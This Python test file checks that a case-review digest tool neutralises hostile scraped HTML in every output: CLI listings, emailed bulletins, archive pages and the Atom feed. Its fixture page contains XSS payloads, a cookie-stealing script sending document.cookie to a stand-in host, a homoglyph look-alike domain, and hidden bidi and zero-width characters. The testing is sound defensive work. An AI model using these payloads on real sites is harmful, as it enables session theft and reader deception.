"""Hostile content: a listing page full of script, event handlers, javascript:/data:/vbscript:
links, look-alike hosts and invisible characters, harvested from a real local server and
followed through every output a person reads: `reviews list/show`, the draft mailed to the
board office, the bulletin partners receive (HTML and plain text), the archive page, its index
and the Atom feed. Every word of the page is fictional.
"""

from __future__ import annotations

import json
import re
import xml.etree.ElementTree as ET
from collections.abc import Callable
from email.message import EmailMessage
from pathlib import Path
from types import SimpleNamespace
from urllib.parse import urlsplit

import lxml.html
import pytest
from click.testing import CliRunner, Result

from cli import main
from common.links import ascii_link
from digest.records import Bulletin, Entry, Link, Month
from digest.render import render
from harvester.parse import parse_page
from sample_site.server import SiteServer

OFFICE = "board.office@westshire-scp.example"
PARTNER = "jo@health.example"
# A Cyrillic "о" (U+043E) in "org": the host only looks like the NSPCC's.
LOOKALIKE = "http://nspcc.\u043erg.uk/case-reviews/baby-w.pdf"
LOOKALIKE_ASCII = "http://nspcc.xn--rg-emc.uk/case-reviews/baby-w.pdf"
# Invisible characters a page can hide in text: bidi override and isolate, zero-width space,
# joiner and non-joiner, word joiner, BOM, left-to-right mark, a terminal escape.
INVISIBLE = ("\u202e", "\u2066", "\u200b", "\u200d", "\u200c", "\u2060", "\ufeff", "\u200e", "\x1b")

HOSTILE_PAGE = f"""<!DOCTYPE html>
<html><head><title>Case reviews update</title>
<script>document.location = "http://collector.example/?c=" + document.cookie</script>
</head>
<body onload="alert('body')">
<h1>Case reviews update</h1>

<h3 onmouseover="alert('heading')">
2025 – Harbourside – Child &lt;script&gt;alert("t")&lt;/script&gt; X</h3>
<p>A fictional summary quoting &lt;img src=x onerror=alert("summary")&gt; as text,
with a real <img src=x onerror="alert('img')"> tag and
<iframe src="javascript:alert(1)"></iframe>.</p>
<p><b>Key issues:</b> seeing fathers &lt;svg onload=alert(3)&gt;; the
<a href="javascript:alert(4)" onclick="alert(5)">case notes</a>.</p>
<p><a href="javascript:alert(document.cookie)">Read the overview report</a></p>

<h3>2025 – Westshire – Child Y</h3>
<p>A fictional summary with a data link.</p>
<p><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
Read the overview report</a></p>

<h3>2025 – Eastmoor – Child Z</h3>
<p>A fictional summary with a vbscript link.</p>
<p><a href="  VBScript:MsgBox(1)">Read the overview report</a></p>

<h3>2025 – Northdale – Baby W\u202egpj.exe</h3>
<p>Summa\u200bry with zero\u200d-width\u2060 characters,\ufeff a mark\u200e, an isolate
\u2066here\u2069 and a terminal escape \x1b[2J in it.</p>
<p><b>Keywords:</b> neglect\u200b, sudden unexpected death in infancy</p>
<p><a href="{LOOKALIKE}">Read the overview report</a></p>

<h3>2025 – Kingsbridge – Child V</h3>
<p>A fictional summary with a link that names one host and goes to another.</p>
<p><a href="https://www.nspcc.org.uk@reports.example/v.pdf">Read the overview report</a></p>
</body></html>
"""


# -- what the parser keeps --------------------------------------------------------------------


def test_the_parser_keeps_text_as_text_and_drops_what_is_invisible() -> None:
    parsed = parse_page(HOSTILE_PAGE, "http://127.0.0.1/case-reviews/monthly-case-reviews-update")
    entries = {entry.area: entry for entry in parsed.entries}
    assert sorted(entries) == ["Eastmoor", "Harbourside", "Kingsbridge", "Northdale", "Westshire"]
    x = entries["Harbourside"]
    assert x.title == 'Child <script>alert("t")</script> X'  # text, to be escaped on output
    assert x.summary is not None and "document.cookie" not in x.summary
    assert "alert('img')" not in x.summary  # a real tag is markup, not text
    assert x.learning == "seeing fathers <svg onload=alert(3)>; the case notes."
    assert [entries[a].report_url for a in ("Harbourside", "Westshire", "Eastmoor")] == [None] * 3
    w = entries["Northdale"]
    assert w.title == "Baby Wgpj.exe"
    assert w.summary == (
        "Summary with zero-width characters, a mark, an isolate here and a terminal escape "
        "[2J in it."
    )
    assert w.keywords == ("neglect", "sudden unexpected death in infancy")
    assert w.report_url == LOOKALIKE_ASCII
    assert entries["Kingsbridge"].report_url == "https://reports.example/v.pdf"
    for entry in parsed.entries:
        for text in (entry.heading, entry.title, entry.summary or "", entry.learning or ""):
            assert not any(ch in text for ch in INVISIBLE), text


@pytest.mark.parametrize(
    ("href", "expected"),
    [
        ("javascript:alert(1)", None),
        ("JaVaScRiPt:alert(1)", None),
        ("  javascript:alert(1)", None),
        ("java\tscript:alert(1)", None),
        ("\x01javascript:alert(1)", None),
        ("java\u200bscript:alert(1)", None),
        ("data:text/html,<script>alert(1)</script>", None),
        ("vbscript:MsgBox(1)", None),
        ("mailto:someone@example.org", None),
        ("file:///etc/passwd", None),
        ("http://[::1", None),
        ("http://host:port/", None),
        (LOOKALIKE, LOOKALIKE_ASCII),
        ("https://www.nspcc.org.uk@reports.example/v.pdf", "https://reports.example/v.pdf"),
        ("/r/\u202efdp.exe", "https://sample.test/r/fdp.exe"),
        ("/r/child é.pdf", "https://sample.test/r/child%20%C3%A9.pdf"),
        (
            "/r/already%20escaped.pdf?a=1&b=2#p3",
            "https://sample.test/r/already%20escaped.pdf?a=1&b=2#p3",
        ),
        ("HTTPS://Sample.Test:8443/R.pdf", "https://sample.test:8443/R.pdf"),
    ],
)
def test_links_survive_only_as_plain_http(href: str, expected: str | None) -> None:
    assert ascii_link(href, "https://sample.test/list") == expected


# -- what rendering does with rows stored before the parser cleaned them ------------------------


def stored_review(**changes: object) -> SimpleNamespace:
    values: dict[str, object] = {
        "id": 7,
        "published_year": 2025,
        "area": "North\u202edale",
        "title": "Baby\u200b W",
        "summary": "Old row \u2066with\u2069 hidden\ufeff characters.",
        "background": None,
        "learning": "<b>bold</b> & <script>alert(1)</script>",
        "recommendations": None,
        "response": None,
        "model": None,
        "keywords": ["neglect\u200d"],
        "report_url": LOOKALIKE,
        "sections": [],
    }
    values.update(changes)
    return SimpleNamespace(**values)


def test_rendering_cleans_rows_stored_before_and_shows_lookalike_hosts() -> None:
    bulletin = Bulletin(
        board_name="Westshire Safeguarding Children Partnership",
        month=Month(2026, 11),
        intro="Typed by the board office\u200b with a stray \u202eoverride.",
        entries=(Entry.from_review(stored_review()),),
        national_summaries=(Link("Look-alike", "https://nspcc.\u043erg.uk/summary.pdf"),),
        survey_url="https://forms.\u043erg.uk/s",
    )
    rendered = render(bulletin, unsubscribe_url="https://westshire-scp.example/u/T")
    for part in (rendered.subject, rendered.html, rendered.text):
        assert not any(ch in part for ch in INVISIBLE)
        assert "\u043e" not in part  # the Cyrillic letter never reaches the reader
    assert_inert_html(rendered.html)
    assert f'href="{LOOKALIKE_ASCII}"' in rendered.html
    assert "(on nspcc.xn--rg-emc.uk, an internationalised address)" in rendered.html
    assert 'href="https://nspcc.xn--rg-emc.uk/summary.pdf"' in rendered.html
    assert 'href="https://forms.xn--rg-emc.uk/s"' in rendered.html
    assert LOOKALIKE_ASCII in rendered.text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in rendered.html


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("javascript:alert(1)", None),
        ("data:text/html,x", None),
        (LOOKALIKE, LOOKALIKE_ASCII),
        ("https://a.example/\u202epath", "https://a.example/path"),
        ("https://a.example/ü?q=ü", "https://a.example/%C3%BC?q=%C3%BC"),
        ("https://user:pw@a.example/x", "https://a.example/x"),
        ("https://a.example/plain", "https://a.example/plain"),
    ],
)
def test_shown_link(url: str, expected: str | None) -> None:
    assert ascii_link(url) == expected


# -- end to end: harvest, then every output ------------------------------------------------------


def assert_inert_html(html: str) -> None:
    """Nothing in ``html`` runs: no script-bearing elements, no event handlers, links http(s)
    or relative, and the hostile text visible as text."""
    document = lxml.html.document_fromstring(html)
    assert not document.xpath("//script|//iframe|//object|//embed|//svg|//img|//form|//base")
    for element in document.iter():
        if not isinstance(element.tag, str):
            continue
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on"), (element.tag, name, value)
            if name.lower() in ("href", "src", "action", "formaction", "xlink:href"):
                scheme = urlsplit(value).scheme.lower()
                assert scheme in ("", "http", "https"), (element.tag, name, value)
    assert "javascript:" not in html.lower() and "vbscript:" not in html.lower()
    assert "data:text" not in html


def assert_clean_text(text: str) -> None:
    assert not any(ch in text for ch in INVISIBLE)
    assert "\u043e" not in text
    assert "javascript:" not in text.lower() and "data:text" not in text


@pytest.fixture
def run(
    tmp_path: Path, db_url_factory: Callable[[Path], str], smtp_server
) -> Callable[..., Result]:
    runner = CliRunner()
    env = {
        "SCR_DIGEST_REQUEST_DELAY": "0",
        "SCR_DIGEST_RETRIES": "1",
        "SCR_DIGEST_DB": db_url_factory(tmp_path),
        "SCR_DIGEST_CONFIG": "",
        "SCR_DIGEST_SMTP_URL": smtp_server.url,
        "SCR_DIGEST_SMTP_RETRY_DELAY": "0",
        "SCR_DIGEST_BOARD_OFFICE": OFFICE,
        "SCR_DIGEST_FROM": "learning@westshire-scp.example",
        "SCR_DIGEST_BOARD_NAME": "Westshire Safeguarding Children Partnership",
        "SCR_DIGEST_CONSOLE_URL": "https://westshire-scp.example/scr-digest",
    }

    def invoke(*args: str) -> Result:
        return runner.invoke(
            main, ["--data-dir", str(tmp_path), *args], env=env, catch_exceptions=False
        )

    return invoke


def parts(message: EmailMessage) -> tuple[str, str]:
    html = message.get_body(("html",))
    text = message.get_body(("plain",))
    assert html is not None and text is not None
    return html.get_content(), text.get_content()


def test_hostile_content_is_inert_in_every_output(
    run: Callable[..., Result], smtp_server, tmp_path: Path
) -> None:
    root = tmp_path / "site" / "case-reviews"
    root.mkdir(parents=True)
    (root / "monthly-case-reviews-update.html").write_text(HOSTILE_PAGE, encoding="utf-8")
    with SiteServer(tmp_path / "site") as site:
        source = site.url("/case-reviews/monthly-case-reviews-update")
        harvested = run("harvest", "--no-reports", "--source", source)
    assert harvested.exit_code == 0, harvested.output

    # reviews list / show: JSON stays data, and the text has nothing invisible in it
    listed = json.loads(run("reviews", "list", "--format", "json").stdout)
    assert len(listed) == 5
    titles = {review["title"] for review in listed}
    assert 'Child <script>alert("t")</script> X' in titles and "Baby Wgpj.exe" in titles
    assert {review["report_url"] for review in listed} == {
        None,
        LOOKALIKE_ASCII,
        "https://reports.example/v.pdf",
    }
    for review in listed:
        shown = run("reviews", "show", str(review["id"]), "--format", "json")
        assert json.loads(shown.stdout)["title"] == review["title"]
        assert_clean_text(shown.stdout)
        assert_clean_text(run("reviews", "show", str(review["id"])).stdout)
    assert_clean_text(run("reviews", "list").stdout)

    # the draft mailed to the board office
    drafted = run("digest", "draft")
    assert drafted.exit_code == 0, drafted.output
    (draft,) = smtp_server.messages
    html, text = parts(draft.message)
    assert "5 included" in drafted.stdout or "(5 included" in drafted.stdout
    assert_inert_html(html)
    assert_clean_text(html)
    assert_clean_text(text)
    # (css-inline writes the quotes in text as they are: they are harmless there)
    assert 'Child &lt;script&gt;alert("t")&lt;/script&gt; X' in html
    assert "seeing fathers &lt;svg onload=alert(3)&gt;" in html
    # The report link goes through the console's open counter; the reader is still told that
    # it leads to an internationalised host, shown in punycode, never as the look-alike.
    warning = "(on nspcc.xn--rg-emc.uk, an internationalised address)"
    assert html.count(warning) == 1 and warning in text
    assert "nspcc.\u043erg.uk" not in html + text
    assert re.search(r'href="https://westshire-scp\.example/scr-digest/r/[^"/]+/\d+"', html)
    assert_inert_html(run("digest", "show", "--format", "html").stdout)

    # the bulletin a partner receives, then the public archive
    assert run("recipients", "add", PARTNER).exit_code == 0
    assert run("digest", "approve").exit_code == 0
    smtp_server.messages.clear()
    sent = run("digest", "send")
    assert sent.exit_code == 0, sent.output
    (bulletin,) = smtp_server.messages
    html, text = parts(bulletin.message)
    assert_inert_html(html)
    assert_clean_text(html + text + str(bulletin.message["Subject"]))
    assert '&lt;img src=x onerror=alert("summary")&gt;' in html
    assert '<img src=x onerror=alert("summary")>' in text  # plain text: shown as typed, inert
    assert warning in html and warning in text

    archive = tmp_path / "archive"
    month = next(archive.glob("????-??.html"))
    for page in (month, archive / "index.html"):
        content = page.read_text(encoding="utf-8")
        assert_inert_html(content)
        assert_clean_text(content)
    feed_text = (archive / "feed.xml").read_text(encoding="utf-8")
    assert_clean_text(feed_text)
    feed = ET.fromstring(feed_text)  # well-formed: every scraped character escaped
    atom = "{http://www.w3.org/2005/Atom}"
    assert not [el for el in feed.iter() if not el.tag.startswith(atom)]  # no injected elements
    (summary,) = feed.iter(f"{atom}summary")
    assert 'Child <script>alert("t")</script> X' in (summary.text or "")
    assert "&lt;script&gt;" in feed_text
    assert re.search(r"<summary>[^<]*</summary>", feed_text)
